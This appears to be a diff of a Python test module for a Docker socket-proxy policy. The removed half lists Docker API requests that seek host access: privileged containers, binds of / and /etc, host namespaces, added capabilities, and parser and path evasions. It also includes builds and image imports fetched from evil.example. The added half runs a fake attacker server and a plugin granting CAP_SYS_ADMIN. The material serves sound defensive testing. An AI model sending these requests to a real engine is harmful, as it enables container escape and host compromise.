@@ -1,363 +1,384 @@
-"""Roads past a policy, each of which an engine takes: what is sent, and the status that it must meet.
+"""The corpus' scene on a real engine, and the attacker's server beside it.
 
-`{n}` in a target, a header or a body is a name of the session's. `{strong}` is a privileged container and `{bound}` a
-volume that is a bind mount of /etc, both made on the bare engine; `{other}` is a container outside the policy.
+Things are made when the first line names them, and again after a line that spoiled them. All bear the session's name or
+label. What `Engine.sweep` does not know of (a plug-in, a swarm and what is in it) is removed here.
 """
 
 from __future__ import annotations
 
 import json
+import secrets
+import socket
+import subprocess
+import sys
+import tempfile
+import time
 from collections.abc import Iterator
-from dataclasses import dataclass, field
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
+from http.client import HTTPResponse
+from itertools import count
+from pathlib import Path
 from typing import Any
 
-from tests.engine.wire import chunked
+import httpx
+import pytest
 
-CREATE = "/v1.41/containers/create?name={n}"
+from tests.corpus import SUITES, Line, Thing, scene, spell, spelled, tar_of
+from tests.engine.disposable import IMAGE, PREFIX, Engine
+from tests.engine.registry import ENTER
 
+LABELS = {"sockproxy.test.run": PREFIX}
+SWARMS = frozenset({"swarm", "services", "secrets", "configs"})
 
-@dataclass(frozen=True)
-class Attack:
-    name: str
-    method: str
-    target: str
-    body: bytes | None = None
-    statuses: tuple[int, ...] = (403,)
-    headers: dict[str, str] = field(default_factory=dict)
+SERVER = """
+import http.server, io, sys, tarfile
 
+def tar(**files):
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        for name, text in files.items():
+            entry = tarfile.TarInfo(name)
+            entry.size = len(text)
+            archive.addfile(entry, io.BytesIO(text))
+    return buffer.getvalue()
 
-def _create(name: str, *, statuses: tuple[int, ...] = (403,), **host_config: Any) -> Attack:
-    body = {"Image": "busybox:test", "Cmd": ["true"], "HostConfig": host_config}
-    return Attack(name, "POST", CREATE, json.dumps(body).encode(), statuses)
+DOCKERFILE = b"FROM busybox:test\\nLABEL a=b\\n"
+FILES = {
+    "/v2/": ("application/json", b"{}"),
+    "/Dockerfile": ("text/plain", DOCKERFILE),
+    "/context.tar": ("application/x-tar", tar(Dockerfile=DOCKERFILE)),
+    "/image.tar": ("application/x-tar", tar(x=b"x")),
+}
 
+class Handler(http.server.BaseHTTPRequestHandler):
+    def answer(self):
+        print(self.path, flush=True)
+        kind, body = FILES.get(self.path, ("application/json", b'{"errors":[]}'))
+        self.send_response(200 if self.path in FILES else 404)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        if self.command != "HEAD":
+            self.wfile.write(body)
 
-def _raw(name: str, text: str, *, statuses: tuple[int, ...] = (403,), target: str = CREATE) -> Attack:
-    return Attack(name, "POST", target, text.encode(), statuses)
+    do_GET = do_HEAD = do_POST = answer
 
+    def log_message(self, *_):
+        pass
 
-def _mount(name: str, **mount: Any) -> Attack:
-    return _create(name, Mounts=[{"Target": "/h"} | mount])
+server = http.server.ThreadingHTTPServer((sys.argv[1], 80), Handler)
+print("ready", flush=True)
+server.serve_forever()
+"""
+"""Answers as a registry without images does, and serves what an engine may be told to fetch; prints each path."""
 
-
-def host_configs() -> Iterator[Attack]:
-    """Powers, each by its own field."""
-    yield _create("privileged", Privileged=True)
-    for path in (
-        "/",
-        "/etc",
-        "/srv/ci/../../etc",
-        "//etc",
-        "/srv/ci-evil",
-        "/srv/ci/../ci-evil",
-        "/srv//ci/..//..//etc",
-        "/srv",
-        "/srv/reference/a",
-    ):
-        yield _create(f"bind of {path}", Binds=[f"{path}:/h"])
-        yield _mount(f"mount of {path}", Type="bind", Source=path)
-    yield _create("bind that propagates", Binds=["/srv/ci/a:/h:rshared"])
-    yield _mount(
-        "volume with bind options",
-        Type="volume",
-        Source="{n}",
-        VolumeOptions={"DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/etc"}}},
-    )
-    yield _mount(
-        "volume with options and no driver",
-        Type="volume",
-        Source="{n}",
-        VolumeOptions={"DriverConfig": {"Options": {"type": "none", "o": "ro,rbind", "device": "/etc"}}},
-    )
-    yield _mount(
-        "volume over nfs",
-        Type="volume",
-        Source="{n}",
-        VolumeOptions={
-            "DriverConfig": {"Name": "local", "Options": {"type": "nfs", "o": "addr=10.0.0.1", "device": ":/x"}}
-        },
-    )
-    yield _mount(
-        "volume of another driver", Type="volume", Source="{n}", VolumeOptions={"DriverConfig": {"Name": "rclone"}}
-    )
-    yield _create("volume found to be a bind", Binds=["{bound}:/h"])
-    yield _mount("volume found to be a bind, as a mount", Type="volume", Source="{bound}")
-    yield _create("another's volume", Binds=["another:/h"])
-    for space in ("PidMode", "IpcMode", "UTSMode", "UsernsMode", "CgroupnsMode", "NetworkMode"):
-        yield _create(f"{space} host", **{space: "host"})
-    for space in ("PidMode", "IpcMode", "NetworkMode"):
-        yield _create(f"{space} of a container", **{space: "container:{strong}"})
-    for capability in ("SYS_ADMIN", "CAP_SYS_ADMIN", "sys_admin", "cap_Sys_Admin", "ALL", "all", "NET_ADMIN"):
-        yield _create(f"capability {capability}", CapAdd=[capability])
-    yield _create(
-        "device", Devices=[{"PathOnHost": "/dev/vda", "PathInContainer": "/dev/x", "CgroupPermissions": "rwm"}]
-    )
-    yield _create("device cgroup rule", DeviceCgroupRules=["b *:* rwm"])
-    yield _create("device request", DeviceRequests=[{"Driver": "", "Count": -1, "Capabilities": [["gpu"]]}])
-    for option in (
-        "seccomp=unconfined",
-        "seccomp:unconfined",
-        "apparmor=unconfined",
-        "apparmor:unconfined",
-        "label=disable",
-        "label:disable",
-        "systempaths=unconfined",
-        "no-new-privileges=false",
-        "no-new-privileges:false",
-    ):
-        yield _create(f"security option {option}", SecurityOpt=[option])
-    yield _create("unmasked paths", MaskedPaths=[])
-    yield _create("writable read-only paths", ReadonlyPaths=[])
-    yield _create("sysctl", Sysctls={"kernel.shm_rmid_forced": "1"})
-    yield _create("runtime", Runtime="io.containerd.kata.v2")
-    yield _create("cgroup parent", CgroupParent="/")
-    yield _create("volumes from", VolumesFrom=["{strong}"])
-    yield _create("link", Links=["{strong}:db"])
-    yield _create("group", GroupAdd=["0"])
-    yield _create("out-of-memory score", OomScoreAdj=-500)
-    yield _create("out-of-memory killer off", OomKillDisable=True)
-    yield _create("log driver", LogConfig={"Type": "syslog", "Config": {"syslog-address": "udp://10.0.0.1:514"}})
-    yield _create("storage option", StorageOpt={"size": "10G"})
-    yield _create("annotation", Annotations={"run.oci.keep_original_groups": "1"})
-    yield _create("published port", PortBindings={"80/tcp": [{"HostIp": "", "HostPort": "8080"}]})
-    yield _create("all ports published", PublishAllPorts=True)
-    yield _create("a field of next year", Overlord=True)
-    yield _raw("another image", '{"Image": "alpine:3"}')
+PLUGIN = {
+    "description": "",
+    "documentation": "",
+    "entrypoint": ["/x"],
+    "interface": {"types": ["docker.dummy/1.0"], "socket": "x.sock"},
+    "network": {"type": "host"},
+    "linux": {"capabilities": ["CAP_SYS_ADMIN"], "allowAllDevices": True},
+    "mounts": [
+        {"name": "m", "source": "/", "destination": "/h", "type": "bind", "options": ["rbind"], "settable": ["source"]}
+    ],
+    "env": [{"name": "A", "value": "secret", "settable": ["value"]}],
+    "args": {"name": "", "value": None},
+}
 
 
-def spellings() -> Iterator[Attack]:
-    """The same power, written so that a careless reader misses it."""
-    yield _raw("power at the top level", '{"Image": "busybox:test", "Privileged": true}')
-    yield _raw("bind at the top level", '{"Image": "busybox:test", "Binds": ["/:/h"]}')
-    yield _raw("namespace at the top level", '{"Image": "busybox:test", "NetworkMode": "host"}')
-    yield _raw("lower case", '{"image": "busybox:test", "hostconfig": {"privileged": true}}')
-    yield _raw("long s", '{"Image": "busybox:test", "Ho\u017ftConfig": {"Privileged": true}}')
-    yield _raw("Kelvin sign", '{"Image": "busybox:test", "HostConfig": {"Networ\u212aMode": "host"}}')
-    yield _raw("escaped key", '{"Image": "busybox:test", "HostConfig": {"\\u0050rivileged": true}}')
-    yield _raw(
-        "equal keys",
-        '{"Image": "busybox:test", "HostConfig": {"Privileged": true}, "HostConfig": {"Memory": 67108864}}',
-        statuses=(400,),
-    )
-    yield _raw(
-        "keys equal but for case",
-        '{"Image": "busybox:test", "HostConfig": {"Privileged": true}, "hostConfig": {}}',
-        statuses=(400,),
-    )
-    yield _raw(
-        "data after the value", '{"Image": "busybox:test"} {"HostConfig": {"Privileged": true}}', statuses=(400,)
-    )
-    yield _raw(
-        "byte order mark", '\ufeff{"Image": "busybox:test", "HostConfig": {"Privileged": true}}', statuses=(400,)
-    )
-    yield _raw(
-        "not a number", '{"Image": "busybox:test", "HostConfig": {"Memory": NaN, "Privileged": true}}', statuses=(400,)
-    )
-    yield _raw(
-        "very deep",
-        '{"Image": "busybox:test", "Labels": ' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "}",
-        statuses=(400, 413),
-    )
-    yield _raw("no object", '["Privileged"]', statuses=(400,))
-    yield Attack(
-        "UTF-16",
-        "POST",
-        CREATE,
-        '{"Image": "busybox:test", "HostConfig": {"Privileged": true}}'.encode("utf-16"),
-        (400,),
-    )
+@contextmanager
+def attackers_server(engine: Engine, folder: Path) -> Iterator[tuple[str, Path]]:
+    """Its address, which is a loopback address of the engine's network, and the file of the paths it was asked for."""
+    address = ".".join(["127", *(str(1 + secrets.randbelow(254)) for _ in range(3))])
+    log = folder / "server"
+    with log.open("wb") as output:
+        process = subprocess.Popen(
+            [ENTER, engine.root, sys.executable, "-c", SERVER, address], stdin=subprocess.DEVNULL, stdout=output
+        )
+    try:
+        for _ in range(200):
+            if log.stat().st_size or process.poll() is not None:
+                break
+            time.sleep(0.05)
+        assert log.read_text().startswith("ready"), "the attacker's server did not start"
+        yield address, log
+    finally:
+        process.terminate()
+        process.wait(10)
 
 
-PRIVILEGED = b'{"Image": "busybox:test", "HostConfig": {"Privileged": true}}'
+class Stage:
+    """The scene on one engine."""
+
+    def __init__(self, engine: Engine, evil: str, fetched: Path) -> None:
+        self.engine = engine
+        self.suite = next((suite for version, suite in SUITES.items() if engine.version.startswith(version)), "")
+        self.fetched = fetched
+        self.client = httpx.Client(
+            transport=httpx.HTTPTransport(uds=str(engine.socket)), base_url="http://engine", timeout=60
+        )
+        repository = f"{PREFIX}-trusted"
+        self.names = {
+            "image": IMAGE,
+            "n": f"{PREFIX}-n",
+            "ci": f"ci-{PREFIX}",
+            "evil": evil,
+            "net": f"10.{200 + secrets.randbelow(50)}.{secrets.randbelow(250)}",
+            "trusted": f"{repository}:1",
+            "trusted_repo": repository,
+            "swarm_version": "0",
+        }
+        # Docker looks at a mount's source before it cleans its path.
+        (engine.root / "srv/ci").mkdir(exist_ok=True)
+        self._made: dict[str, None] = {}
+        self._ours = False
+        """Whether the swarm is one that we made, and may leave."""
+        self._later = ThreadPoolExecutor(1)
+        """Removes the containers that lines have made, while the next are tried."""
+        self._lines = count()
+        for word, thing in scene().items():
+            self._name(word, f"{PREFIX}-{word}".replace("_", "-"), "0" * 64)
+            if thing.noun == "swarm":
+                self.names[word] = "0" * 25
+            if thing.noun == "execs":
+                self.names[word] = "0" * 64
+
+    def _name(self, word: str, name: str, identity: str, version: int = 0) -> None:
+        self.names |= {
+            word: name,
+            f"{word}_id": identity,
+            f"{word}_short": identity[:12],
+            f"{word}_version": str(version),
+        }
+
+    # Making things
+
+    def ready(self, line: Line, *, looked_at: bool = False) -> None:
+        """See to it that what a line names is there, or of it what sockproxy looks at before it refuses."""
+        self.names["n"] = f"{PREFIX}-n{next(self._lines)}"
+        for word in line.things:
+            if not looked_at or scene()[word].noun not in {*SWARMS, "plugins"}:
+                self._make(word)
+
+    def _make(self, word: str) -> None:
+        if word in self._made:
+            return
+        thing = scene()[word]
+        for used in thing.uses:
+            self._make(used)
+        if thing.noun in SWARMS - {"swarm"}:
+            self._make("node")
+        self._made[word] = None
+        getattr(self, f"_make_{thing.noun}")(word, thing, spelled(dict(thing.body), self.names))
+
+    def _post(self, path: str, body: Any = None, **params: str) -> Any:
+        answer = self.client.post(path, json=body, params=params)
+        assert answer.is_success, f"POST {path}: {answer.text}"
+        return answer.json() if answer.content else None
+
+    def _make_containers(self, word: str, thing: Thing, body: dict[str, Any]) -> None:
+        name = spell(thing.name, self.names) if thing.name else self.names[word]
+        made = {"Image": IMAGE, "Cmd": ["sleep", "600"], "Labels": LABELS} | body
+        self._name(word, name, self._post("/containers/create", made, name=name)["Id"])
+        if thing.links:
+            files = {path.lstrip("/"): f"-> {led}" for path, led in thing.links.items()}
+            put = self.client.put(f"/containers/{name}/archive", params={"path": "/"}, content=tar_of(files))
+            assert put.is_success, put.text
+        if not thing.stopped:
+            started = self.client.post(f"/containers/{self.names[f'{word}_id']}/start")
+            # A machine that is itself held to fewer capabilities cannot start a privileged one; it is refused anyway.
+            assert started.is_success or made.get("HostConfig", {}).get("Privileged"), started.text
+
+    def _make_volumes(self, word: str, thing: Thing, body: dict[str, Any]) -> None:
+        self._post("/volumes/create", {"Name": self.names[word], "Labels": LABELS} | body)
+
+    def _make_networks(self, word: str, thing: Thing, body: dict[str, Any]) -> None:
+        name = spell(thing.name, self.names) if thing.name else self.names[word]
+        if name != "host":
+            self._post("/networks/create", {"Name": name, "Labels": LABELS} | body)
+        self._name(word, name, self.client.get(f"/networks/{name}").json()["Id"])
+
+    def _make_execs(self, word: str, thing: Thing, body: dict[str, Any]) -> None:
+        made = self._post(f"/containers/{spell(thing.container, self.names)}/exec", body)["Id"]
+        self._name(word, made, made)
+        if thing.started:
+            self._post(f"/exec/{made}/start", {"Detach": True, "Tty": True})
+
+    def _make_plugins(self, word: str, thing: Thing, body: dict[str, Any]) -> None:
+        files = {"config.json": json.dumps(PLUGIN), "rootfs/": ""}
+        tar = Line("", "", "POST", "/", tar=files).payload({})
+        answer = self.client.post("/plugins/create", params={"name": self.names[word]}, content=tar)
+        assert answer.is_success, answer.text
+
+    def _make_swarm(self, word: str, thing: Thing, body: dict[str, Any]) -> None:
+        if self.client.get("/info").json()["Swarm"]["LocalNodeState"] != "active":
+            self._post("/swarm/init", {"ListenAddr": "127.0.0.1:2377", "AdvertiseAddr": "127.0.0.1"})
+            self._ours = True
+        node = self.client.get("/info").json()["Swarm"]["NodeID"]
+        self._name(word, node, node, self.client.get(f"/nodes/{node}").json()["Version"]["Index"])
+        self.names["swarm_version"] = str(self.client.get("/swarm").json()["Version"]["Index"])
+
+    def _make_of_swarm(self, word: str, thing: Thing, body: dict[str, Any]) -> None:
+        name = self.names[word]
+        made = self._post(f"/{thing.noun}/create", {"Name": name, "Labels": LABELS} | body)
+        identity = made["ID"] if "ID" in made else made["Id"]
+        version = self.client.get(f"/{thing.noun}/{identity}").json()["Version"]["Index"]
+        self._name(word, name, identity, version)
+
+    _make_services = _make_secrets = _make_configs = _make_of_swarm
+
+    # Removing them
+
+    def owns_swarm(self, line: Line) -> bool:
+        """Whether a line that changes the swarm may: it is ours, or there is none."""
+        if "node" not in (*line.things, *(line.bare.spoils if line.bare else ())):
+            return True
+        return self._ours or self.client.get("/info").json()["Swarm"]["LocalNodeState"] != "active"
+
+    def leave_swarm(self) -> None:
+        """Where it is ours, take it all down; in any case forget what was in it, having removed it."""
+        for word in [word for word in self._made if scene()[word].noun in SWARMS]:
+            del self._made[word]
+            thing = scene()[word]
+            if thing.noun != "swarm" and not self._ours:
+                self.client.delete(f"/{thing.noun}/{self.names[word]}")
+        if self._ours:
+            self.client.post("/swarm/leave", params={"force": "1"})
+            self._ours = False
+            self._clear_swarm()
+
+    def _clear_swarm(self) -> None:
+        """Remove what an engine that has left its swarm keeps of it."""
+        gate = {"Container": "gateway_ingress-sbox", "Force": True}
+        self.client.post("/networks/docker_gwbridge/disconnect", json=gate)
+        self.client.delete("/networks/docker_gwbridge")
+
+    def spoil(self, words: tuple[str, ...]) -> None:
+        """Remove what is not what it was, and all that was made of it; it is made again when it is named again."""
+        for word in words:
+            if word == "node":
+                self._mend_swarm()
+            else:
+                self._remove(word)
+
+    def _mend_swarm(self) -> None:
+        """After a line that changed it, made it or left it."""
+        active = self.client.get("/info").json()["Swarm"]["LocalNodeState"] == "active"
+        if active and "node" in self._made:
+            node = self.client.get(f"/nodes/{self.names['node']}").json()
+            version = {"version": str(node["Version"]["Index"])}
+            self._post(f"/nodes/{self.names['node']}/update", node["Spec"] | {"Availability": "active"}, **version)
+            self._make_swarm("node", scene()["node"], {})
+        elif active:
+            self._made["node"] = None
+            self._ours = True
+            self._make_swarm("node", scene()["node"], {})
+        else:
+            self._ours = False
+            self.leave_swarm()
+            self._clear_swarm()
+
+    def _remove(self, word: str) -> None:
+        if word not in self._made:
+            return
+        del self._made[word]
+        for other in [other for other in self._made if word in scene()[other].uses]:
+            self._remove(other)
+        thing = scene()[word]
+        if thing.noun == "containers":
+            self.client.delete(f"/containers/{self.names[f'{word}_id']}", params={"force": "1", "v": "1"})
+        elif thing.noun in ("networks", "volumes", "plugins", "services", "secrets", "configs"):
+            self.client.delete(f"/{thing.noun}/{self.names[word]}", params={"force": "1"})
+
+    def clear(self, line: Line, answer: bytes) -> None:
+        """Remove what a line has made."""
+        new, path = self.names["n"], line.target.partition("?")[0]
+        noun = path.split("/")[-2]
+        if path.endswith("/create") and noun in ("volumes", "plugins", "networks", "services", "secrets", "configs"):
+            name = new if noun in ("volumes", "plugins") else _field(answer, "Id") or _field(answer, "ID")
+            self.client.delete(f"/{noun}/{name}", params={"force": "1"})
+        elif b'"Warnings"' in answer:
+            self._later.submit(self._remove_container, _field(answer, "Id"), new if "$n" in str(line.body) else "")
+        elif noun == "images" or path.endswith(("/build", "/commit", "/tag", "/load")):
+            image, ci, evil = self.names["trusted"], f"{self.names['ci']}-{new}", f"{self.names['evil']}/{new}"
+            for name in (image, ci, evil, f"registry.example.com/ci-evil/{new}", f"evil.example/ci-{new}"):
+                self.client.delete(f"/images/{name}", params={"force": "1"})
+
+    def _remove_container(self, identity: str, volume: str) -> None:
+        self.client.delete(f"/containers/{identity}", params={"force": "1", "v": "1"})
+        if volume:
+            self.client.delete(f"/volumes/{volume}", params={"force": "1"})
+
+    def close(self) -> None:
+        self._later.shutdown()
+        for word in [word for word in self._made if scene()[word].noun == "plugins"]:
+            self._remove(word)
+        self.leave_swarm()
+        self.client.close()
+
+    # Sending
+
+    def request(self, line: Line) -> bytes:
+        return line.request(self.names)
+
+    def fetches(self) -> list[str]:
+        return self.fetched.read_text().splitlines()
 
 
-def framings() -> Iterator[Attack]:
-    """The same body, delivered oddly."""
-    yield Attack(
-        "chunked",
-        "POST",
-        CREATE,
-        chunked(PRIVILEGED),
-        (403,),
-        {"transfer-encoding": "chunked", "content-type": "application/json"},
-    )
-    yield Attack(
-        "chunked and with a length",
-        "POST",
-        CREATE,
-        chunked(PRIVILEGED),
-        (400,),
-        {"transfer-encoding": "chunked", "content-length": "5", "content-type": "application/json"},
-    )
-    yield Attack(
-        "an encoding that is not quite chunked",
-        "POST",
-        CREATE,
-        chunked(PRIVILEGED),
-        (400, 501),
-        {"transfer-encoding": "xchunked", "content-type": "application/json"},
-    )
-    yield Attack("a body behind a length of none", "POST", CREATE, PRIVILEGED, (400, 403), {"content-length": "0"})
-    yield Attack("a type that is not JSON's", "POST", CREATE, PRIVILEGED, (400, 403), {"content-type": "text/plain"})
-    yield Attack(
-        "a form",
-        "POST",
-        CREATE,
-        b"name=x&Privileged=true",
-        (400,),
-        {"content-type": "application/x-www-form-urlencoded"},
-    )
-    yield Attack(
-        "a form that overrides the query",
-        "POST",
-        "/containers/{n}-own/rename?name={n}-x",
-        b"name=another",
-        (400,),
-        {"content-type": "application/x-www-form-urlencoded"},
-    )
-    yield Attack(
-        "a form in parts", "POST", CREATE, b"--b--", (400,), {"content-type": "multipart/form-data; boundary=b"}
-    )
-    yield Attack(
-        "an upgrade of what does not hijack",
-        "POST",
-        CREATE,
-        PRIVILEGED,
-        (403,),
-        {"connection": "Upgrade", "upgrade": "tcp"},
-    )
-    yield Attack(
-        "a browser", "POST", CREATE, b'{"Image": "busybox:test"}', (403, 400), {"origin": "http://evil.example"}
-    )
+def _field(answer: bytes, key: str) -> str:
+    try:
+        value = json.loads(answer)
+    except ValueError:
+        return ""
+    return str(value.get(key, "")) if isinstance(value, dict) else ""
 
 
-def targets() -> Iterator[Attack]:
-    """Paths and versions that name the endpoint without spelling it."""
-    for version in ("/v1.41.0", "/v1.041", "/V1.41", "/v1.22", "/v1.9", "/v1.99", "/v2.0", "/v1.41/v1.41"):
-        yield Attack(f"version {version}", "POST", f"{version}/containers/create?name={{n}}", PRIVILEGED, (400, 403))
-    for path in (
-        "//containers/create",
-        "/v1.41//containers/create",
-        "/./containers/create",
-        "/x/../containers/create",
-        "/x/%2e%2e/containers/create",
-        "/%2563ontainers/create",
-        "/containers\\create",
-        "/containers/create/",
-        "/containers/create%00",
-        "/Containers/create",
-        "/containers/create;x",
-    ):
-        yield Attack(f"path {path}", "POST", f"{path}?name={{n}}", PRIVILEGED, (400, 403))
-    for path in ("/%63ontainers/create", "/containers%2Fcreate", "http://docker/v1.41/containers/create"):
-        yield Attack(f"path {path}", "POST", f"{path}?name={{n}}", PRIVILEGED, (403, 400))
-    yield Attack(
-        "a body on start, in an old version", "POST", "/v1.23/containers/{n}-own/start", b'{"Binds": ["/:/h"]}', (400,)
-    )
-    yield Attack("a body on start", "POST", "/containers/{n}-own/start", b'{"Binds": ["/:/h"]}', (400, 403))
-    yield Attack("a name given twice", "POST", CREATE + "&name=other", b'{"Image": "busybox:test"}', (400,))
-    yield Attack("an unknown query key", "POST", "/containers/{n}-own/start?overlord=1", None, (403,))
-    yield Attack("HTTP/2 by prior knowledge", "PRI", "*", None, (400, 403, 505))
-    yield Attack("an unknown method", "FROB", "/containers/create", None, (400, 403, 405))
+@contextmanager
+def staged(engine: Engine) -> Iterator[Stage]:
+    with tempfile.TemporaryDirectory(prefix="sockproxy-") as folder, attackers_server(engine, Path(folder)) as server:
+        stage = Stage(engine, *server)
+        try:
+            yield stage
+        finally:
+            stage.close()
+            engine.sweep()
 
 
-def others() -> Iterator[Attack]:
-    """Powers by other nouns."""
-    options = {"type": "none", "o": "bind", "device": "/etc"}
-    yield _raw("a volume that is a bind", json.dumps({"Name": "{n}", "DriverOpts": options}), target="/volumes/create")
-    yield _raw(
-        "a volume that is a bind, in lower case",
-        json.dumps({"name": "{n}", "driveropts": options}),
-        target="/volumes/create",
-    )
-    yield _raw("a volume of another driver", '{"Name": "{n}", "Driver": "rclone"}', target="/volumes/create")
-    yield _raw(
-        "a network with the default bridge's name",
-        '{"Name": "{n}", "Options": {"com.docker.network.bridge.name": "docker0"}}',
-        target="/networks/create",
-    )
-    yield _raw(
-        "a network of another driver",
-        '{"Name": "{n}", "Driver": "macvlan", "Options": {"parent": "eth0"}}',
-        target="/networks/create",
-    )
-    yield _raw("the host's network, by connecting", '{"Container": "{n}-own"}', target="/networks/host/connect")
-    yield _create("the host's network, by its id", NetworkMode="{host-network}")
-    yield _raw(
-        "the host's network, by an endpoint",
-        '{"Image": "busybox:test", "NetworkingConfig": {"EndpointsConfig": {"host": {}}}}',
-    )
-    yield _raw("a privileged exec", '{"Cmd": ["sh"], "Privileged": true}', target="/containers/{n}-own/exec")
-    yield _raw("an exec in a privileged container", '{"Cmd": ["sh"]}', target="/containers/{strong}/exec")
-    yield Attack(
-        "attaching to a privileged container",
-        "POST",
-        "/containers/{strong}/attach?stream=1&stdin=1&stdout=1",
-        b"",
-        (403,),
-        {"connection": "Upgrade", "upgrade": "tcp"},
-    )
-    yield Attack(
-        "attaching by websocket",
-        "GET",
-        "/containers/{strong}/attach/ws?stream=1&stdin=1",
-        None,
-        (403,),
-        {
-            "connection": "Upgrade",
-            "upgrade": "websocket",
-            "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==",
-            "sec-websocket-version": "13",
-        },
-    )
-    yield Attack(
-        "files into a privileged container",
-        "PUT",
-        "/containers/{strong}/archive?path=/",
-        b"\0" * 1024,
-        (403,),
-        {"content-type": "application/x-tar"},
-    )
-    yield Attack(
-        "files out of a privileged container's bind", "GET", "/containers/{strong}/archive?path=/h/passwd", None, (403,)
-    )
-    yield _raw("an exec in another's container", '{"Cmd": ["sh"]}', target="/containers/{other}/exec")
-    for verb in ("stop", "kill", "restart", "rename?name={n}-taken"):
-        yield Attack(f"{verb.split('?')[0]} of another's container", "POST", f"/containers/{{other}}/{verb}", None)
-    yield Attack("removing another's container", "DELETE", "/containers/{other}?force=1", None)
-    yield Attack("a name outside the policy", "POST", "/containers/{n}-own/rename?name=another", None)
-    yield Attack(
-        "a build on the host's network",
-        "POST",
-        "/build?networkmode=host&t={n}",
-        b"\0" * 1024,
-        (403,),
-        {"content-type": "application/x-tar"},
-    )
-    yield Attack("a build of what the engine fetches", "POST", "/build?remote=https://evil.example/x.git&t={n}", None)
-    yield Attack(
-        "a build over a trusted name",
-        "POST",
-        "/build?t=busybox:test",
-        b"\0" * 1024,
-        (403,),
-        {"content-type": "application/x-tar"},
-    )
-    yield Attack("tagging over a trusted name", "POST", "/images/busybox:test/tag?repo=python&tag=3", None)
-    yield Attack(
-        "an image from a tar", "POST", "/images/load", b"\0" * 1024, (403,), {"content-type": "application/x-tar"}
-    )
-    yield Attack("BuildKit's tunnel", "POST", "/grpc", None, (403,), {"connection": "Upgrade", "upgrade": "h2c"})
-    yield Attack("an image from a URL", "POST", "/images/create?fromSrc=http://evil.example/x.tar&repo={n}", None)
-    for method, target in (
-        ("POST", "/swarm/init"),
-        ("POST", "/services/create"),
-        ("POST", "/plugins/pull?remote=x"),
-        ("POST", "/containers/prune"),
-        ("GET", "/swarm/unlockkey"),
-        ("POST", "/commit?container={n}-own"),
-    ):
-        reads_json = method == "POST" and not target.endswith("/prune")
-        yield Attack(f"{method} {target}", method, target, b"{}" if reads_json else None)
+def answered(path: Path, sent: bytes, says: str = "", patience: float = 30) -> tuple[int, bytes]:
+    """Status and body of the answer; a raw stream without a length is read until it says that."""
+    with socket.socket(socket.AF_UNIX) as connection:
+        connection.settimeout(patience)
+        connection.connect(str(path))
+        connection.sendall(sent)
+        with HTTPResponse(connection, method=sent.split(b" ", 1)[0].decode()) as response:
+            response.begin()
+            if response.status == 101:
+                return response.status, b""
+            if response.length is None and not response.chunked:
+                return response.status, _until(response, says.encode())
+            return response.status, response.read()
 
 
-ALL = [*host_configs(), *spellings(), *framings(), *targets(), *others()]
+def _until(response: HTTPResponse, says: bytes) -> bytes:
+    body = b""
+    while says not in body and (data := response.read1(65536)):
+        body += data
+    return body
+
+
+def contains(whole: Any, part: Any) -> bool:
+    """Whether an inspect has that in it: the keys of an object, the items of a list."""
+    if isinstance(part, dict):
+        return isinstance(whole, dict) and all(
+            key in whole and contains(whole[key], each) for key, each in part.items()
+        )
+    if isinstance(part, list) and part:
+        return isinstance(whole, list) and all(any(contains(each, wanted) for each in whole) for wanted in part)
+    return bool(whole == part)
+
+
+def unowned(stage: Stage, line: Line) -> None:
+    if not stage.owns_swarm(line):
+        pytest.skip("the swarm on the engine is somebody else's")
